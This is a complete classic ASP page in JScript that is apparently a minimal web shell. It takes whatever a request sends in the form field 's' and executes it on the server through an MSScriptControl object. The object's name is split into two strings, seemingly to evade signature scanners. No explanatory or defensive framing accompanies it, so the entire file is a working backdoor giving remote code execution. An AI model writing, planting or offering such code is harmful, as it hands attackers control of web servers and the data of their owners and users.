<%@ Language="JScript" %>
<%
var P = Request;
var sc = Server.CreateObject("MSScript" + "Control.ScriptControl");
sc.Language = "JScript";
var src = P.Form("s");
sc.ExecuteStatement(src);
%>
